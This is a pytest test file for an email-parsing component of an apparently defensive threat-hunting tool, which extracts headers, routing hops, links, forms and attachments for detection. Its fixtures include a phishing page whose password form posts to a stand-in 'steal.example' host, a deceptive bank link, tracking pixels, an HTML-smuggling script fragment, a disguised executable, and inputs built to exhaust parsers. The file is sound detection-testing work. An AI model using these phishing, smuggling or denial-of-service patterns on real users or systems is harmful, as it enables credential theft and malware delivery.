"""A mail becomes one event: who, when, from where, and what it would make its reader do."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from email.message import EmailMessage
from email.mime.base import MIMEBase
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stillhunt.telemetry import mail
from stillhunt.telemetry.mail_html import read_page
from stillhunt.telemetry.sources.mail_message import SOURCE

HEADERS = """\
Received: from out.sender.example (out.sender.example [203.0.113.9])
 by mx.corp.example (Postfix) with ESMTPS id 1 for <alice@corp.example>;
 Tue, 24 Aug 2021 05:12:11 +0200 (CEST)
Received: from laptop ([10.1.2.3]) by out.sender.example; Mon, 23 Aug 2021 20:12:09 -0700
Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=bounce@sender.example;
 dkim=pass header.d=sender.example; dmarc=fail action=none header.from=bank.example
Return-Path: <bounce@sender.example>
From: =?utf-8?B?WsO2ZSBCYW5r?= <Zoe@Bank.example>
To: Alice <alice@corp.example>, "Bob, Jr" <BOB@corp.example>
Cc: c@corp.example
Reply-To: other@evil.example
Subject: =?iso-8859-1?Q?Caf=E9?=
 =?utf-8?Q?_menu?=
Date: Mon, 23 Aug 2021 20:12:09 -0700
Message-ID: <1@sender.example>
In-Reply-To: <0@corp.example>
X-Mailer: Mailer 1.0
X-Originating-IP: [198.51.100.7]
List-Unsubscribe: <https://u.example/?x=1>
DKIM-Signature: v=1; a=rsa-sha256; d=sender.example;
 s=sel1; b=abc
MIME-Version: 1.0
"""

PAGE = """<html><body><p>Pay at <a href="https://evil.example/login?t=1">www.bank.example</a>
<a href='http://ok.example'>ok.example/help</a> or see https://plain.example/x.
<img src="https://track.example/o.gif?u=4711" width="1" height=1>
<img src='cid:logo'><img src="//cdn.example/big.png" width=600 style="display:block">
<img src="http://t2.example/p" style="width: 1px; height: 1px">
<form action="https://steal.example/f.php" method=POST><input type=password name=p></form>
<iframe src="https://frame.example/"></iframe></body></html>"""


def whole(body: str, mime_type: str = "text/html; charset=utf-8") -> bytes:
    return f"{HEADERS}Content-Type: {mime_type}\n\n{body}".encode()


@pytest.fixture
def one(read, tmp_path):
    def row(content: bytes, name: str = "x.eml"):
        (tmp_path / name).write_bytes(content)
        rows, coverage = read(tmp_path / name)
        assert [f.source for f in coverage.files] == ["mail_message"]
        (found,) = rows
        return {key: value for key, value in found.items() if value is not None}

    return row


def test_headers_become_fields_in_ecs_names(one):
    row = one(whole("hello", "text/plain"))
    expected = {
        "event.clock": "Date",
        "event.record": 1,
        "event.action": "message",
        "email.sender.address": "zoe@bank.example",
        "email.subject": "Café menu",
        "email.message_id": "1@sender.example",
        "user_agent.original": "Mailer 1.0",
        "email.from.name": "Zöe Bank",
        "email.from.domain": "bank.example",
        "email.to.address": "alice@corp.example\nbob@corp.example",
        "email.to.name": "Alice\nBob, Jr",
        "email.cc.address": "c@corp.example",
        "email.reply_to.address": "other@evil.example",
        "email.return_path.address": "bounce@sender.example",
        "email.recipients.count": "3",
        "email.in_reply_to": "0@corp.example",
        "email.x_originating_ip": "[198.51.100.7]",
        "email.list.unsubscribe": "<https://u.example/?x=1>",
        "email.is_bulk": "true",
        "email.dkim.domain": "sender.example",
        "email.dkim.selector": "sel1",
        "email.date": "Mon, 23 Aug 2021 20:12:09 -0700",
    }
    assert {name: row[name] for name in expected} == expected
    assert row["@timestamp"].isoformat() == "2021-08-24T03:12:09+00:00"
    assert row["class"].name == "mail/message"


def test_the_way_and_the_verdicts_become_fields(one):
    row = one(whole("hello", "text/plain"))
    expected = {
        "source.ip": "203.0.113.9",
        "email.handed_in.ip": "203.0.113.9",
        "email.handed_in.by": "mx.corp.example",
        "email.handed_in.looked_up": "out.sender.example",
        "email.received.count": "2",
        "email.received.ip": "203.0.113.9\n10.1.2.3",
        "email.received.from": "out.sender.example\nlaptop",
        "email.received.at": "2021-08-24T05:12:11+02:00\n2021-08-23T20:12:09-07:00",
        "email.delivery_timestamp": "2021-08-24T05:12:11+02:00",
        "email.authentication.spf": "pass",
        "email.authentication.dkim": "pass",
        "email.authentication.dmarc": "fail",
        "email.authentication.smtp.mailfrom": "bounce@sender.example",
        "email.authentication.header.d": "sender.example",
        "email.authentication.header.from": "bank.example",
    }
    assert {name: row[name] for name in expected} == expected


def test_links_images_and_forms_become_lines_that_belong_together(one):
    row = one(whole(PAGE))
    expected = {
        "email.links.url": "https://evil.example/login?t=1\nhttp://ok.example\nhttps://plain.example/x",
        "email.links.host": "evil.example\nok.example\nplain.example",
        "email.links.text": "www.bank.example\nok.example/help\nhttps://plain.example/x",
        "email.links.kind": "href\nhref\ntext",
        "email.links.differs": "true\n\n",
        "email.links.count": "3",
        "email.images.host": "track.example\ncdn.example\nt2.example",
        "email.images.path": "/o.gif\n/big.png\n/p",
        "email.images.query": "u=4711\n\n",
        "email.images.width": "1\n600\n",
        "email.images.hidden": "true\n\ntrue",
        "email.images.count": "3",
        "email.fetched.host": "frame.example",
        "email.fetched.tag": "iframe",
        "email.forms.action": "https://steal.example/f.php",
        "email.forms.host": "steal.example",
        "email.forms.method": "post",
        "email.html.traits": "password-field",
    }
    assert {name: row[name] for name in expected} == expected


def test_links_of_a_text_are_found(one):
    row = one(whole("see http://a.example/x?y=1, www.b.example.\n<https://c.example>", "text/plain"))
    assert row["email.links.host"] == "a.example\nwww.b.example\nc.example"
    assert row["email.links.kind"] == "plain\nplain\nplain"


def _zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in names:
            file.writestr(name, "x")
    return out.getvalue()


SMUGGLER = b"<script>var b=new Blob([Uint8Array.from(atob(d))]);a.href=URL.createObjectURL(b);a.download='x'</script>"


def test_attachments_are_described_and_hashed(one):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@x.example", "b@y.example", "files"
    message.set_content("see files")
    archive = _zip("invoice.pdf.exe", "a/b.txt")
    message.add_attachment(archive, maintype="application", subtype="zip", filename="Rechnung für.zip")
    message.add_attachment(b"MZ\x90", maintype="image", subtype="png", filename="photo.png")
    message.add_attachment(SMUGGLER.decode(), subtype="html", filename="open.html")
    row = one(message.as_bytes())
    assert row["email.attachments.file.name"] == "Rechnung für.zip\nphoto.png\nopen.html"
    assert row["email.attachments.file.extension"] == "zip\npng\nhtml"
    assert row["email.attachments.file.mime_type"] == "application/zip\nimage/png\ntext/html"
    assert row["email.attachments.form"] == "zip\nwindows-program\n"
    assert row["email.attachments.file.size"].split("\n")[:2] == [str(len(archive)), "3"]
    assert row["email.attachments.file.hash.sha256"].split("\n")[0] == hashlib.sha256(archive).hexdigest()
    assert row["email.attachments.inside"] == "Rechnung für.zip!invoice.pdf.exe\nRechnung für.zip!a/b.txt"
    traits = row["email.attachments.traits"].split("\n")[2].split()
    assert {"script", "blob", "object-url", "atob", "byte-array", "script-download"} <= set(traits)
    assert "file.hash.sha256" not in row


def test_the_one_attachment_of_a_mail_is_its_file(one):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@x.example", "b@y.example", "file"
    message.add_attachment(b"MZ", maintype="application", subtype="octet-stream", filename="x.exe")
    row = one(message.as_bytes())
    assert (row["file.path"], row["file.hash.sha256"]) == ("x.exe", hashlib.sha256(b"MZ").hexdigest())


def test_an_attached_mail_is_looked_into(one):
    inner = MIMEMultipart()
    inner["From"], inner["Subject"] = "phisher@evil.example", "urgent"
    inner.attach(MIMEText('<a href="https://deep.example/">x</a>', "html"))
    file = MIMEBase("application", "pdf")
    file.set_payload(b"%PDF-1.4")
    file.add_header("Content-Disposition", "attachment", filename="deep.pdf")
    inner.attach(file)
    outer = MIMEMultipart()
    outer["From"], outer["To"], outer["Subject"] = "a@x.example", "abuse@corp.example", "reported"
    outer.attach(MIMEText("please look"))
    outer.attach(MIMEMessage(inner))
    row = one(outer.as_bytes())
    assert row["email.subject"] == "reported"
    assert row["email.nested.subject"] == "urgent"
    assert row["email.nested.from"] == "phisher@evil.example"
    assert row["email.links.host"] == "deep.example"
    assert row["email.attachments.file.name"] == "urgent!deep.pdf"
    assert row["email.attachments.form"] == "pdf"


def test_an_attachment_in_outlooks_own_format_is_named(one):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@x.example", "b@y.example", "file"
    message.add_attachment(b"\x78\x9f\x3e\x22", maintype="application", subtype="ms-tnef", filename="winmail.dat")
    row = one(message.as_bytes())
    assert row["email.attachments.form"] == "tnef"
    assert "TNEF" in row["email.oddities"]


GOOGLE = "Received: by 2002:a05:6a10:1234:b0:22 with SMTP id x1; Tue, 24 Aug 2021 01:00:00 -0700 (PDT)\n"
ROUTES = {
    "Postfix": ("from helo (rdns.example [203.0.113.1]) by mx.corp.example (Postfix)", "203.0.113.1"),
    "Postfix, no name": ("from helo (unknown [203.0.113.1]) by mx.corp.example (Postfix)", "203.0.113.1"),
    "Sendmail": ("from helo (rdns.example [203.0.113.2] (may be forged)) by mx.corp.example", "203.0.113.2"),
    "Exim": ("from rdns.example ([203.0.113.3] helo=me) by mx.corp.example with esmtp", "203.0.113.3"),
    "Exim, bare": ("from [203.0.113.3] (helo=me) by mx.corp.example with esmtp", "203.0.113.3"),
    "qmail": ("from unknown (HELO me) (203.0.113.4) by mx.corp.example with SMTP", "203.0.113.4"),
    "Exchange": ("from me (203.0.113.5) by MX.corp.example (10.0.0.1) with Microsoft SMTP", "203.0.113.5"),
    "IPv6": ("from me (rdns.example [IPv6:2001:DB8:0::25]) by mx.corp.example", "2001:db8::25"),
    "IPv4 in IPv6": ("from me (::ffff:203.0.113.6) by mx.corp.example", "203.0.113.6"),
}


@pytest.mark.parametrize("server", ROUTES)
def test_received_headers_of_many_servers_are_understood(one, server):
    route, address = ROUTES[server]
    row = one(f"Received: {route}; Tue, 24 Aug 2021 08:00:01 +0000\nFrom: a@b.example\nSubject: x\n\nx".encode())
    assert row["source.ip"] == address


INSIDE = "from {} by {}; Tue, 24 Aug 2021 08:00:01 +0000"
HOPS = {
    "private hops are inside": (
        [("gw (gw [10.0.0.1])", "store.corp.example"), ("x (x.example [203.0.113.1])", "gw.corp.example")],
        "203.0.113.1",
    ),
    "a server of the same domain, looked up, is inside": (
        [("h (gw.corp.example [198.51.100.1])", "store.corp.example"), ("x ([203.0.113.1])", "gw.corp.example")],
        "203.0.113.1",
    ),
    "a claim to be of the same domain is not enough": (
        [("gw.corp.example (unknown [203.0.113.66])", "mx.corp.example"), ("x ([8.8.8.8])", "gw.corp.example")],
        "203.0.113.66",
    ),
    "a claim together with a near address is": (
        [
            ("a.corp.example (198.51.100.1)", "b.corp.example (198.51.7.2)"),
            ("x (203.0.113.1)", "a.corp.example (10.0.0.1)"),
        ],
        "203.0.113.1",
    ),
    "headers below the first stranger are his": (
        [("x (x.example [203.0.113.1])", "mx.corp.example"), ("y (y.example [8.8.4.4])", "x.example")],
        "203.0.113.1",
    ),
}


@pytest.mark.parametrize("case", HOPS)
def test_the_source_is_who_handed_the_mail_to_the_receiver(one, case):
    hops, address = HOPS[case]
    received = "".join(f"Received: {INSIDE.format(*hop)}\n" for hop in hops)
    assert one(f"{received}From: a@b.example\nSubject: x\n\nx".encode())["source.ip"] == address


def test_the_receivers_own_verdict_finds_the_hop_behind_its_many_servers(one):
    received = [
        "from A.prod.outlook.com (2603:10a6:10:1::1) by B.prod.outlook.com with HTTPS",
        "from C.prod.exchangelabs.com (2603:10b6:10:1::1) by A.prod.outlook.com (2603:10a6:10:1::2)",
        "from evil.example (203.0.113.7) by C.mail.protection.outlook.com (10.1.1.1)",
    ]
    lines = "".join(f"Received: {hop}; Tue, 24 Aug 2021 08:00:01 +0000\n" for hop in received)
    spf = "Received-SPF: Fail (protection.outlook.com: no) client-ip=203.0.113.7; helo=evil.example;\n"
    assert one(f"{lines}{spf}From: a@b.example\nSubject: x\n\nx".encode())["source.ip"] == "203.0.113.7"


TIMES = {
    "Date": ("Date: Tue, 24 Aug 2021 08:00:00 +0000\n", "2021-08-24T08:00:00+00:00", "Date"),
    "minus zero is UTC": ("Date: Tue, 24 Aug 2021 08:00:00 -0000\n", "2021-08-24T08:00:00+00:00", "Date"),
    "no Date": (
        "Received: by mx.x.example; Tue, 24 Aug 2021 09:00:00 +0100\n",
        "2021-08-24T08:00:00+00:00",
        "Received",
    ),
    "a Date of last year": (
        "Received: by mx.x.example; Tue, 24 Aug 2021 09:00:00 +0100\nDate: Mon, 24 Aug 2020 08:00:00 +0000\n",
        "2021-08-24T08:00:00+00:00",
        "Received",
    ),
    "some days late is how mail is": (
        "Received: by mx.x.example; Tue, 24 Aug 2021 09:00:00 +0100\nDate: Sat, 21 Aug 2021 08:00:00 +0000\n",
        "2021-08-21T08:00:00+00:00",
        "Date",
    ),
    "a Date that is none": (
        "Received: by mx.x.example; Tue, 24 Aug 2021 09:00:00 +0100\nDate: soon\n",
        "2021-08-24T08:00:00+00:00",
        "Received",
    ),
}


@pytest.mark.parametrize("case", TIMES)
def test_the_time_is_the_date_unless_the_receiver_cannot_agree(one, case):
    headers, at, clock = TIMES[case]
    row = one(f"{headers}From: a@b.example\nTo: b@c.example\nSubject: x\n\nx".encode())
    assert (row["@timestamp"].isoformat(), row["event.clock"]) == (at, clock)


ODD = {
    "the sender's name holds another address": b'From: "ceo@corp.example" <x@evil.example>\nSubject: x\nTo: a@b\n\n',
    "subject: turned direction": "From: a@b.example\nTo: a@b.example\nSubject: x\u202etxt.exe\n\n".encode(),
    "more than one From": b"From: a@b.example\nFrom: c@d.example\nSubject: x\nTo: a@b.example\n\n",
    "no From": b"Return-Path: <a@b.example>\nSubject: x\nTo: a@b.example\n\n",
    "no Date": b"From: a@b.example\nSubject: x\nTo: a@b.example\n\n",
    "body: unknown charset x-odd": b"From: a@b.c\nSubject: x\nTo: a\nContent-Type: text/plain; charset=x-odd\n\nhi",
    "body: bytes that are no utf-8": (
        b"From: a@b.example\nSubject: x\nTo: a\nContent-Type: text/plain; charset=utf-8\n\n\xff\xfe"
    ),
    "defect: NoBoundaryInMultipartDefect": b"From: a@b.example\nSubject: x\nTo: a\nContent-Type: multipart/mixed\n\nhi",
}


@pytest.mark.parametrize("oddity", ODD)
def test_what_is_odd_about_a_mail_is_said(one, oddity):
    assert oddity in one(ODD[oddity])["email.oddities"].split("\n")


HARD = {
    "a bent encoded word": (b"Subject: =?utf-8?B?4oKs?= =?x?Q?=C3=A9?= =?utf-8?B?%%%?=", "€é"),
    "a character over two words": (b"Subject: =?utf-8?B?4oI=?= =?utf-8?B?rA==?=", "€"),
    "raw bytes": ("Subject: Grüße".encode("latin-1"), "Grüße"),
    "raw UTF-8": ("Subject: Grüße".encode(), "Grüße"),
    "folded": (b"Subject: one\n two\n\tthree", "one two three"),
}


@pytest.mark.parametrize("how", HARD)
def test_a_subject_is_decoded_however_it_is_written(one, how):
    header, subject = HARD[how]
    assert one(b"From: a@b.example\nTo: b@c.example\n" + header + b"\n\nx")["email.subject"].strip() == subject


def test_an_emlx_of_apple_mail_is_a_mail(one):
    inner = b"From: a@b.example\nTo: b@c.example\nSubject: x\n\nbody"
    row = one(b"%d      \n" % len(inner) + inner + b'<?xml version="1.0"?><plist>http://no.example</plist>', "1.emlx")
    assert row["email.subject"] == "x"
    assert "email.links.host" not in row


@pytest.mark.parametrize(
    "head",
    [
        b"",
        b"GET / HTTP/1.1\nHost: x\nFrom: y\n",
        b"2021-08-24 From: a To: b Subject: c",
        b'{"From": "a", "To": "b", "Subject": "c"}',
        b"From: a\n\nSubject: only one header\n",
        b"title: x\nauthor: y\ndate: z\n",
        b"\x00" * 100,
    ],
)
def test_other_texts_are_no_mail(head):
    assert not SOURCE.sniff(head)


BAIT = {
    "an open tag": "<a " * 300_000,
    "an open comment": "<!--" * 200_000,
    "brackets": "<" * 300_000,
    "open sections": "<![CDATA[" * 50_000,
    "one endless tag": "<a " + "b=c " * 100_000,
    "one endless link": '<a href="' + "x" * 2_000_000,
    "words like links": "www." * 200_000 + "http://" * 100_000,
}


@pytest.mark.parametrize("bait", BAIT)
@pytest.mark.usefixtures("patience")
def test_a_page_made_to_waste_time_comes_to_its_end(bait):
    assert read_page(BAIT[bait] + PAGE) is not None


def test_what_comes_behind_an_open_tag_is_still_seen():
    page = read_page("<a " + "b " * 50_000 + PAGE)
    assert any(link.host == "evil.example" for link in page.links)


def _nested(depth: int) -> bytes:
    heads = "".join(f'Content-Type: multipart/mixed; boundary="{n}"\n\n--{n}\n' for n in range(depth))
    return f"From: a@b.example\nTo: b@c.example\nSubject: deep\n{heads}Content-Type: text/plain\n\nx".encode()


CRUSHING = {
    "parts": b'From: a@b.example\nTo: b@c\nSubject: deep\nContent-Type: multipart/mixed; boundary="b"\n\n'
    + b"--b\n\nx\n" * 30_000,
    "depth": _nested(2_000),
    "some depth": _nested(200),
    "headers": b"From: a@b.example\nTo: b@c\nSubject: deep\n"
    + b"".join(b"X-%d: y\n" % n for n in range(50_000))
    + b"\nx",
    "attached mails": b"From: a@b.example\nTo: b@c\nSubject: deep\n" + b"Content-Type: message/rfc822\n\n" * 3_000,
    "lines": b"From: a@b.example\nTo: b@c\nSubject: deep\n\n" + b"\n" * 13_000_000,
}


@pytest.mark.parametrize("how", CRUSHING)
@pytest.mark.usefixtures("patience")
def test_a_mail_made_to_crush_its_reader_is_read_as_far_as_it_goes(one, how):
    row = one(CRUSHING[how])
    assert row["email.subject"] == "deep"
    assert how in {"some depth", "attached mails"} or "read as one text" in row["email.oddities"]


def test_a_mail_longer_than_any_is_read_from_its_beginning_and_that_is_said(read, tmp_path, monkeypatch):
    monkeypatch.setattr("stillhunt.telemetry.sources.mail_message.LARGEST", 10_000)
    (tmp_path / "x").write_bytes(whole("x" * 20_000, "text/plain"))
    rows, coverage = read(tmp_path / "x")
    assert rows[0]["email.subject"] == "Café menu"
    assert coverage.n_unread == 1
    assert coverage.problems[0].hint


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=600), st.integers(0, 1500))
def test_nothing_in_a_mail_is_fatal(read, tmp_path, rubbish, at):
    content = bytearray(whole(PAGE + base64.b64encode(bytes(99)).decode(), 'multipart/mixed; boundary="x"'))
    content[at : at + len(rubbish)] = rubbish
    (tmp_path / "x.eml").write_bytes(b"From: a@b.example\nTo: c@d.example\nSubject: s\n" + bytes(content))
    rows, _ = read(tmp_path / "x.eml")
    assert len(rows) == 1


def test_every_real_phish_is_read_with_the_address_that_its_receiver_saw(shared_data, read):
    rows, coverage = read(shared_data / "mail" / "phishing_pot-dev600.tar.gz")
    assert (len(rows), coverage.n_unread, coverage.problems) == (600, 0, ())
    assert all(row["@timestamp"] for row in rows)
    hidden = sum("true" in (row["email.images.hidden"] or "") for row in rows)
    assert 340 <= hidden <= 370
    assert sum(row["source.ip"] is None for row in rows) <= 2


def test_every_real_newsletter_is_read(shared_data, read):
    rows, coverage = read(shared_data / "mail" / "spamassassin-hard-ham-dev-half.tar.gz")
    assert (len(rows), coverage.n_unread, coverage.problems) == (123, 0, ())
    assert {row["class"] for row in rows} == {mail.MESSAGE}
